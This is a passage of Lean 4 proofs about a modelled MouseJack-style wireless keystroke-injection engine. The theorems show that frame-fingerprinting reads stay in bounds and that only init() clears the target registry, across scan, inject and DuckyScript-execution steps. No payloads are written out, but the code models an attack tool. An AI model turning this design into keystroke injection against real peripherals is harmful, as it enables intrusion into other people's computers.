      1 ≤ L ∧ L ≤ 28 ∧ 8 + L ≤ min size 37 - 1 ∧ payload.length = L ∧
        ∀ i ∈ payloadReads payload L, i < L) := by
  have hmin : (if size > 37 then 37 else size) = min size 37 := by
    split <;> omega
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro i hi
    unfold fingerprintReads at hi
    split at hi
    · cases hi
    · rename_i h10
      simp only [hmin] at hi
      have h10b : 10 ≤ min size 37 := by omega
      rw [List.mem_append] at hi
      rcases hi with hi | hi
      · exact trialReads_bound _ _ i h10b hi
      · split at hi
        · cases hi
        · rw [List.mem_append] at hi
          rcases hi with hi | hi
          · exact shiftReads_bound _ i hi
          · exact trialReads_bound _ _ i h10b hi
  · intro offset
    rw [alignedBuf_length]
    omega
  · intro offset h10 hcheck
    have h := trial_length_check _ _ hcheck
    omega
  · intro addr payload L hframe
    have h10 : 10 ≤ size := by
      by_contra hc
      unfold fingerprintFrame at hframe
      rw [if_pos (by omega)] at hframe
      cases hframe
    have key : ∀ offset, fingerprintTrial (alignedBuf rawBuf (min size 37) offset)
        (min size 37) = some (addr, payload, L) →
        1 ≤ L ∧ L ≤ 28 ∧ 8 + L ≤ min size 37 - 1 ∧ payload.length = L ∧
          ∀ i ∈ payloadReads payload L, i < L := by
      intro offset ht
      have hsome := (isSome_fingerprintTrial _ _).1 (by rw [ht]; rfl)
      have hparts := fingerprintTrial_some _ _ _ _ _ ht
      have hchk := trial_length_check _ _ hsome.1
      rw [← hparts.1] at hchk
      have hlen : payload.length = L := by rw [hparts.2.2, esbPayload_length]
      exact ⟨hchk.1, by omega, hchk.2, hlen,
        fun i hi => payloadReads_bound payload L i hchk.1 hi⟩
    have h2 : (if min size 37 > 37 then 37 else min size 37) = min size 37 := by
      split <;> omega
    have hl : fingerprintFrame rawBuf size = fingerprintOffsets rawBuf (min size 37) [0, 1] := by
      unfold fingerprintFrame
      rw [if_neg (Nat.not_lt.2 h10)]
      simp only [hmin]
    have hr : fingerprintFrame rawBuf (min size 37) =
        fingerprintOffsets rawBuf (min size 37) [0, 1] := by
      unfold fingerprintFrame
      rw [if_neg (by omega)]
      simp only [h2]
    have hsz : fingerprintFrame rawBuf size = fingerprintFrame rawBuf (min size 37) := by
      rw [hl, hr]
    rw [hsz, fingerprintFrame_eq rawBuf (min size 37) (by omega) (by omega)] at hframe
    cases h0 : fingerprintTrial (alignedBuf rawBuf (min size 37) 0) (min size 37) with
    | some r =>
      rw [h0] at hframe
      simp only at hframe
      exact key 0 (by rw [h0, hframe])
    | none =>
      rw [h0] at hframe
      simp only at hframe
      exact key 1 hframe

theorem reads_in_bounds_witness :
    min 19 37 ≤ sampleCapture.length ∧
    fingerprintReads sampleCapture 19 =
      [5, 16, 17, 18, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16,
       0, 1, 2, 3, 4, 6, 7, 7, 8, 8, 9, 9, 10, 10, 11, 11, 12, 12, 13, 13, 14, 14, 15,
       15, 16] ∧
    (∀ i ∈ fingerprintReads sampleCapture 19, i < min 19 37) ∧
    fingerprintFrame sampleCapture 19 =
      some ([161, 178, 195, 212, 229], [0, 194, 0, 0, 0, 0, 0, 0, 0, 0], 10) ∧
    payloadReads [0, 194, 0, 0, 0, 0, 0, 0, 0, 0] 10 = [0, 1] :=
  ⟨by decide, by decide, (reads_in_bounds sampleCapture 19 (by decide)).1, by decide,
    by decide⟩

/-! ## The registry is cleared in bulk by `init()` only -/

theorem kept_of_eq (s t : State) (h1 : t.targets_ = s.targets_)
    (h2 : t.targetCount_ = s.targetCount_) : Kept s t := by
  unfold Kept targetAt
  rw [h1, h2]
  exact ⟨Nat.le_refl _, fun _ _ => ⟨rfl, rfl, rfl, rfl⟩⟩

theorem kept_trans (s t u : State) (h1 : Kept s t) (h2 : Kept t u) : Kept s u := by
  refine ⟨Nat.le_trans h1.1 h2.1, fun j hj => ?_⟩
  obtain ⟨a1, a2, a3, a4⟩ := h1.2 j hj
  obtain ⟨b1, b2, b3, b4⟩ := h2.2 j (Nat.lt_of_lt_of_le hj h1.1)
  exact ⟨b1.trans a1, b2.trans a2, b3.trans a3, b4.trans a4⟩

theorem kept_fingerprint (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) (rawBuf : List Nat)
    (size channel : Nat) (s : State) : Kept s (fingerprint k rawBuf size channel s) := by
  unfold fingerprint
  split
  · unfold fingerprintPayload
    split
    · rename_i addr _ _ _ _ t _
      have h := addTarget_keeps k hcap addr 5 channel t s
      exact ⟨h.2.1, h.1⟩
    · exact kept_of_eq s s rfl rfl
  · exact kept_of_eq s s rfl rfl

theorem kept_startScan (present createOk : Bool) (handle : Nat) (s : State) :
    (startScan present createOk handle s).2.targets_ = s.targets_ ∧
    (startScan present createOk handle s).2.targetCount_ = s.targetCount_ := by
  unfold startScan
  split
  · exact ⟨rfl, rfl⟩
  · split
    · exact ⟨rfl, rfl⟩
    · simp only
      split <;> exact ⟨rfl, rfl⟩

theorem kept_stopScan (s : State) :
    (stopScan s).targets_ = s.targets_ ∧ (stopScan s).targetCount_ = s.targetCount_ := by
  unfold stopScan
  split <;> exact ⟨rfl, rfl⟩

theorem kept_stopAttack (s : State) :
    (stopAttack s).targets_ = s.targets_ ∧ (stopAttack s).targetCount_ = s.targetCount_ := by
  unfold stopAttack
  split <;> exact ⟨rfl, rfl⟩

theorem kept_startAttack (createOk : Bool) (handle targetIndex : Nat) (hidPayload : List Nat)
    (payloadLen : Nat) (s : State) :
    (startAttack createOk handle targetIndex hidPayload payloadLen s).2.targets_ = s.targets_ ∧
    (startAttack createOk handle targetIndex hidPayload payloadLen s).2.targetCount_ =
      s.targetCount_ := by
  unfold startAttack
  split
  · exact ⟨rfl, rfl⟩
  · split
    · exact ⟨rfl, rfl⟩
    · exact launchAttack_registry _ _ _ s

theorem kept_injectString (createOk : Bool) (handle targetIndex : Nat) (text : List Nat)
    (s : State) :
    (injectString createOk handle targetIndex text s).2.targets_ = s.targets_ ∧
    (injectString createOk handle targetIndex text s).2.targetCount_ = s.targetCount_ := by
  unfold injectString
  split
  · exact ⟨rfl, rfl⟩
  · split
    · exact ⟨rfl, rfl⟩
    · exact launchAttack_registry _ _ _ s

theorem kept_executeDuckyScript (createOk : Bool) (handle targetIndex : Nat)
    (filePath : List Nat) (s : State) :
    (executeDuckyScript createOk handle targetIndex filePath s).2.targets_ = s.targets_ ∧
    (executeDuckyScript createOk handle targetIndex filePath s).2.targetCount_ =
      s.targetCount_ := by
  unfold executeDuckyScript
  split
  · exact ⟨rfl, rfl⟩
  · split
    · exact ⟨rfl, rfl⟩
    · exact launchAttack_registry _ _ _ s

theorem kept_engineOp (k : MjConsts) (c : TaskConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255)
    (s : State) (op : EngineOp) (hop : resets op = false) :
    Kept s (applyEngineOp k c s op) := by
  cases op with
  | init present =>
    have hp : present = false := hop
    rw [hp]
    exact kept_of_eq s s rfl rfl
  | startScan present createOk handle =>
    exact kept_of_eq s _ (kept_startScan present createOk handle s).1
      (kept_startScan present createOk handle s).2
  | stopScan => exact kept_of_eq s _ (kept_stopScan s).1 (kept_stopScan s).2
  | capture rawBuf size channel => exact kept_fingerprint k hcap rawBuf size channel s
  | scanEnd => exact kept_of_eq s _ rfl rfl
  | startAttack createOk handle targetIndex hidPayload payloadLen =>
    exact kept_of_eq s _ (kept_startAttack createOk handle targetIndex hidPayload payloadLen s).1
      (kept_startAttack createOk handle targetIndex hidPayload payloadLen s).2
  | injectString createOk handle targetIndex text =>
    exact kept_of_eq s _ (kept_injectString createOk handle targetIndex text s).1
      (kept_injectString createOk handle targetIndex text s).2
  | executeDuckyScript createOk handle targetIndex filePath =>
    exact kept_of_eq s _ (kept_executeDuckyScript createOk handle targetIndex filePath s).1
      (kept_executeDuckyScript createOk handle targetIndex filePath s).2
  | stopAttack => exact kept_of_eq s _ (kept_stopAttack s).1 (kept_stopAttack s).2
  | attackRun env params =>
    exact kept_of_eq s _ (attackTask_registry c env params s).1
      (attackTask_registry c env params s).2

theorem kept_sysOp (k : MjConsts) (c : TaskConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255)
    (s : State) (op : SysOp) (hop : sysResets op = false) :
    Kept s (sysState k c s op) := by
  cases op with
  | init present =>
    have hp : present = false := hop
    rw [hp]
    exact kept_of_eq s s rfl rfl
  | startScan present createOk handle =>
    exact kept_of_eq s _ (kept_startScan present createOk handle s).1
      (kept_startScan present createOk handle s).2
  | stopScan => exact kept_of_eq s _ (kept_stopScan s).1 (kept_stopScan s).2
  | capture rawBuf size channel => exact kept_fingerprint k hcap rawBuf size channel s
  | startAttack createOk handle targetIndex hidPayload payloadLen =>
    exact kept_of_eq s _ (kept_startAttack createOk handle targetIndex hidPayload payloadLen s).1
      (kept_startAttack createOk handle targetIndex hidPayload payloadLen s).2
  | injectString createOk handle targetIndex text =>
    exact kept_of_eq s _ (kept_injectString createOk handle targetIndex text s).1
      (kept_injectString createOk handle targetIndex text s).2
  | executeDuckyScript createOk handle targetIndex filePath =>
    exact kept_of_eq s _ (kept_executeDuckyScript createOk handle targetIndex filePath s).1
      (kept_executeDuckyScript createOk handle targetIndex filePath s).2
  | stopAttack => exact kept_of_eq s _ (kept_stopAttack s).1 (kept_stopAttack s).2
  | attackWork env params =>
    exact kept_of_eq s _ (attackSession_untouched c env params s).2.1
      (attackSession_untouched c env params s).2.2.1
  | setIdle t => exact kept_of_eq s _ rfl rfl
  | clearHandle t => exact kept_of_eq s _ rfl rfl
  | notify t => exact kept_of_eq s _ rfl rfl
  | taskDelete t => exact kept_of_eq s _ rfl rfl

theorem kept_scanPass (k : MjConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255) (env : ScanEnv)
    (s0 s : State) (h : Kept s0 s) : Kept s0 (scanPass k env s) := by
  have hsame : ∀ t u : State, u.targets_ = t.targets_ → u.targetCount_ = t.targetCount_ →
      Kept s0 t → Kept s0 u := fun t u h1 h2 ht => kept_trans s0 t u ht (kept_of_eq t u h1 h2)
  have hemit : ∀ (op : RadioOp) (t : State), Kept s0 t → Kept s0 (emit op t) :=
    fun _ t ht => hsame t _ rfl rfl ht
  have hchan : ∀ t : State, Kept s0 t → Kept s0 (scanChannels k env 83 2 t) := fun t ht =>
    scanChannels_inv k env (Kept s0) (fun u hu => hsame u _ rfl rfl hu)
      (fun _ => hemit _) (fun _ => hemit _)
      (fun ch rx u _ _ hu => kept_trans s0 u _ hu (kept_fingerprint k hcap rx rx.length ch u))
      (hemit _) 83 2 t (by omega) (by omega) ht
  unfold scanPass
  simp only
  split
  · exact hemit _ _ (hemit _ _ h)
  · exact hemit _ _ (hemit _ _ (hemit _ _ (hchan _ (hemit _ _ (hemit _ _ (hemit _ _ h))))))

theorem kept_scanTask (k : MjConsts) (c : TaskConsts) (hcap : k.MJ_MAX_TARGETS ≤ 255)
    (env : ScanEnv) (s0 : State) :
    ∀ (fuel : Nat) (s s2 : State), Kept s0 s → scanTask k c env fuel s = some s2 →
      Kept s0 s2 := by
  intro fuel
  induction fuel with
  | zero => intro s s2 _ h; cases h
  | succ fuel ih =>
    intro s s2 hs h
    rw [scanTask] at h
    split at h
    · injection h with h
      rw [← h]
      exact kept_trans s0 s _ hs (kept_of_eq s _ rfl rfl)
    · exact ih _ s2
        (kept_scanPass k hcap env s0 (scanStop env s).2
          (kept_trans s0 s _ hs (kept_of_eq s (scanStop env s).2 rfl rfl))) h


/-- C22 (amended). `startScan()` never touches the registry: whatever it returns, the
entries and the target count are as before the call. The registry is cleared in bulk by
`init()` only, the one caller of `clearTargets`: after a successful `init()` no entry is
active and the count is 0, a failed `init()` changes nothing, and every other step of the engine (a call of
`startScan`, `stopScan`, `startAttack`, `injectString`, `executeDuckyScript` or
`stopAttack`, a capture handed to `fingerprint`, a run of the attack task, a statement of
a task cleanup, a whole run of `scanTask`) keeps every entry below the target count
(active flag, address, address length, device type) and does not lower the count, for
`MJ_MAX_TARGETS ≤ 255`. -/
theorem registry_cleared_by_init_only (k : MjConsts) (c : TaskConsts)
    (hcap : k.MJ_MAX_TARGETS ≤ 255) :
    (∀ (present createOk : Bool) (handle : Nat) (s : State),
      (startScan present createOk handle s).2.targets_ = s.targets_ ∧
      (startScan present createOk handle s).2.targetCount_ = s.targetCount_) ∧
    (∀ s : State, (init k true s).1 = true ∧
      (init k true s).2.targets_ = (clearTargets k s).targets_ ∧
      (init k true s).2.targetCount_ = 0 ∧
      ∀ i, (targetAt (init k true s).2 i).active = false) ∧
    (∀ s : State, init k false s = (false, s)) ∧
    (∀ (s : State) (op : EngineOp), resets op = false → Kept s (applyEngineOp k c s op)) ∧
    (∀ (s : State) (op : SysOp), sysResets op = false → Kept s (sysState k c s op)) ∧
    (∀ (env : ScanEnv) (fuel : Nat) (s s2 : State),
      scanTask k c env fuel s = some s2 → Kept s s2) := by
  refine ⟨fun present createOk handle s => kept_startScan present createOk handle s, ?_,
    fun _ => rfl, fun s op hop => kept_engineOp k c hcap s op hop,
    fun s op hop => kept_sysOp k c hcap s op hop, ?_⟩
  · intro s
    refine ⟨rfl, rfl, rfl, fun i => ?_⟩
    have h := targetAt_replicate k s i
    have e : targetAt (init k true s).2 i = targetAt (clearTargets k s) i := rfl
    rw [e, h]
    rfl
  · intro env fuel s s2 h
    exact kept_scanTask k c hcap env s fuel s s2 (kept_of_eq s s rfl rfl) h

theorem registry_cleared_by_init_only_witness :
    sampleConsts.MJ_MAX_TARGETS ≤ 255 ∧
    resets (EngineOp.capture sampleCapture 19 5) = false ∧
    sampleTargets.targetCount_ = 2 ∧
    (applyEngineOp sampleConsts sampleTaskConsts sampleTargets
      (EngineOp.capture sampleCapture 19 5)).targetCount_ = 3 ∧
    (init sampleConsts true sampleTargets).2.targetCount_ = 0 ∧
    Kept sampleTargets (applyEngineOp sampleConsts sampleTaskConsts sampleTargets
      (EngineOp.capture sampleCapture 19 5)) :=
  ⟨by decide, by decide, by decide, by decide, by decide,
    (registry_cleared_by_init_only sampleConsts sampleTaskConsts (by decide)).2.2.2.1
      sampleTargets (EngineOp.capture sampleCapture 19 5) rfl⟩

end MouseJack
